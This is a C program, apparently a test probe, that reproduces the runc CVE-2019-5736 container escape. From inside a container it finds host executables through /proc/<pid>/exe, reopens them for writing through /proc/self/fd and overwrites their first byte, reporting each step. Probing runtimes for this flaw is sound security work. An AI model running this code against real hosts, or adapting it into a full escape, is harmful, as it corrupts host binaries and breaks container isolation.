/* A hostile container process hunting for the host binary that enters it
 * (runc CVE-2019-5736). Run as root in a container with CAP_SYS_PTRACE.
 *
 * It loops over /proc/<pid>/exe, keeps a descriptor of every executable it
 * can open that is not on its own root filesystem (that is, one from the
 * host: the entering tool's child between fork and exec), and tries again
 * and again to reopen each one for writing through /proc/self/fd/N, while
 * the tool runs (ETXTBSY) and after it exits. When it manages, it writes
 * one byte at the start of the file. Once /tmp/hunter-stop exists it makes
 * a last attempt on each and exits.
 *
 * Reports, one a line: "ready"; "held DEV:INO PATH"; "write-failed DEV:INO
 * ERRNO" (each new errno once); "write-opened DEV:INO"; "wrote DEV:INO" or
 * "write-refused DEV:INO ERRNO"; "final DEV:INO ok|ERRNO"; "done".
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#define MAX_HELD 64

struct held {
    int fd;
    unsigned long dev, ino;
    int last_errno;
    int opened;
};

static struct held held[MAX_HELD];
static int n_held;
static struct stat own_root;

static void say(const char *fmt, unsigned long dev, unsigned long ino, const char *extra) {
    printf(fmt, dev, ino, extra);
    fflush(stdout);
}

/* Reopen for writing; on success write one byte. Returns the errno, 0 when opened. */
static int try_write(struct held *h) {
    char path[64];
    snprintf(path, sizeof path, "/proc/self/fd/%d", h->fd);
    int w = open(path, O_WRONLY);
    if (w < 0) return errno;
    if (!h->opened) {
        h->opened = 1;
        say("write-opened %lu:%lu%s\n", h->dev, h->ino, "");
        if (pwrite(w, "X", 1, 0) == 1)
            say("wrote %lu:%lu%s\n", h->dev, h->ino, "");
        else
            say("write-refused %lu:%lu %s\n", h->dev, h->ino, strerrorname_np(errno));
    }
    close(w);
    return 0;
}

static void scan(void) {
    DIR *proc = opendir("/proc");
    struct dirent *e;
    while (proc && (e = readdir(proc))) {
        if (e->d_name[0] < '0' || e->d_name[0] > '9') continue;
        char path[300];
        snprintf(path, sizeof path, "/proc/%s/exe", e->d_name);
        int fd = open(path, O_RDONLY);
        if (fd < 0) continue;
        struct stat st;
        int keep = fstat(fd, &st) == 0 && st.st_dev != own_root.st_dev && n_held < MAX_HELD;
        for (int i = 0; keep && i < n_held; i++)
            keep = !(held[i].dev == st.st_dev && held[i].ino == st.st_ino);
        if (!keep) { close(fd); continue; }
        char target[256] = "";
        ssize_t n = readlink(path, target, sizeof target - 1);
        if (n > 0) target[n] = 0;
        held[n_held] = (struct held){fd, st.st_dev, st.st_ino, 0, 0};
        n_held++;
        printf("held %lu:%lu %s\n", (unsigned long)st.st_dev, (unsigned long)st.st_ino, target);
        fflush(stdout);
    }
    if (proc) closedir(proc);
}

int main(void) {
    if (stat("/", &own_root) != 0) return 1;
    printf("ready\n");
    fflush(stdout);
    while (access("/tmp/hunter-stop", F_OK) != 0) {
        scan();
        for (int i = 0; i < n_held; i++) {
            int err = try_write(&held[i]);
            if (err && err != held[i].last_errno) {
                held[i].last_errno = err;
                say("write-failed %lu:%lu %s\n", held[i].dev, held[i].ino, strerrorname_np(err));
            }
        }
    }
    for (int i = 0; i < n_held; i++) {
        int err = try_write(&held[i]);
        say("final %lu:%lu %s\n", held[i].dev, held[i].ino, err ? strerrorname_np(err) : "ok");
    }
    printf("done\n");
    return 0;
}
